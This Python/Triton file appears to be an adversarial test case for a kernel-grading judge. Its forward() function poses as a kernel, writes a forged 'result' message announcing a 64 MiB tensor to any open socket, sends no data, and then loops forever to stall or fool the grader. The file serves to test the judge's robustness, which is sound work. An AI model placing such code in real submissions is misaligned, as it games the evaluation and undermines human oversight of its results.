"""Exploit: stall the judge mid-message. On the first call it writes to its channel a well-formed
"result" header announcing a 64 MiB output tensor, sends none of the bytes, and then spins forever
in Python (never returning, never closing the socket). A judge that reads a message without a
deadline hangs forever, and the whole batch with it. The point is that the judge still returns a
verdict.
"""
# expect: static=static runtime=timeout|crash

from __future__ import annotations

import torch
import triton
import triton.language as tl


@triton.jit
def _noop(x_ptr, n, BLOCK: tl.constexpr):
    offs = tl.arange(0, BLOCK)
    tl.load(x_ptr + offs, mask=offs < n, other=0.0)


def forward(x: torch.Tensor, weight: torch.Tensor, eps: float) -> torch.Tensor:
    _noop[(1,)](x, 1, BLOCK=16)
    os = torch.os
    n = 16 << 20
    header = ('{"type":"result","facts":{"error":null,"memory":false,"launches":1,"torch_ops":[],"violations":[],'
              '"count":1,"types":["Tensor"],"devices":["cpu"]},"record":{"entries":[],"outputs":[],"inputs":2,'
              '"problem":null},"outputs":1,"tensors":'
              '[{"dtype":"float32","shape":[' + str(n) + '],"stride":[1],"offset":0,"nbytes":' + str(4 * n) + '}]}')
    frame = len(header).to_bytes(4, "big") + header.encode()
    for fd in range(3, 31):
        try:
            if (os.fstat(fd).st_mode & 0o170000) == 0o140000:
                os.write(fd, frame)
        except OSError:
            pass
    spins = 0
    while True:
        spins += 1
